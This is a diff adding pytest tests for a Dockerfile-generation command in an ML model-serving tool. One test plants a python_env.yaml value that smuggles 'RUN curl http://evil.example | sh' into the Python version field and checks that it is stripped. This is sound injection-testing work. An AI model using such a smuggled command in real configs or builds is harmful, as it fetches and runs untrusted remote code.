@@ -72,3 +72,42 @@ def test_models_predict_function_refuses_an_unknown_content_type(logged):
     info, rows, _ = logged
     with pytest.raises(TracekitException, match="Unsupported content type 'xml'"):
         tracekit.models.predict(info.model_uri, rows.to_csv(index=False), content_type="xml")
+
+
+def test_generate_dockerfile_copies_the_model_and_serves_it(tmp_path, logged):
+    import platform
+
+    info, _, _ = logged
+    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", "models:/iris@champion",
+                                       "-d", str(tmp_path / "build")])
+    assert result.exit_code == 0, result.output
+    dockerfile = (tmp_path / "build" / "Dockerfile").read_text()
+    python = ".".join(platform.python_version().split(".")[:2])
+    assert f"FROM python:{python}-slim\n" in dockerfile
+    assert "COPY model_dir /opt/ml/model\n" in dockerfile
+    assert "pip install --no-cache-dir -r /opt/ml/model/requirements.txt" in dockerfile
+    assert f'"tracekit[server]=={tracekit.__version__}"' in dockerfile
+    assert ('CMD ["tracekit", "models", "serve", "-m", "/opt/ml/model", "--host", "0.0.0.0", "--port", "8080"]'
+            in dockerfile)
+    assert (tmp_path / "build" / "model_dir" / "MLmodel").is_file()
+    assert "scikit-learn" in (tmp_path / "build" / "model_dir" / "requirements.txt").read_text()
+
+
+def test_generate_dockerfile_takes_only_a_version_from_python_env(tmp_path, logged):
+    info, _, _ = logged
+    model_dir = tmp_path / "model"
+    tracekit.sklearn.save_model(tracekit.sklearn.load_model(info.model_uri), str(model_dir))
+    (model_dir / "python_env.yaml").write_text('python: "3.10\\nRUN curl http://evil.example | sh"\n')
+    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", str(model_dir),
+                                       "-d", str(tmp_path / "build")])
+    assert result.exit_code == 0, result.output
+    dockerfile = (tmp_path / "build" / "Dockerfile").read_text()
+    assert "evil" not in dockerfile and "curl" not in dockerfile
+
+
+def test_generate_dockerfile_refuses_a_directory_already_holding_a_model(tmp_path, logged):
+    info, _, _ = logged
+    (tmp_path / "build" / "model_dir").mkdir(parents=True)
+    result = CliRunner().invoke(main, ["models", "generate-dockerfile", "-m", info.model_uri,
+                                       "-d", str(tmp_path / "build")])
+    assert result.exit_code == 1 and "already exists" in result.output
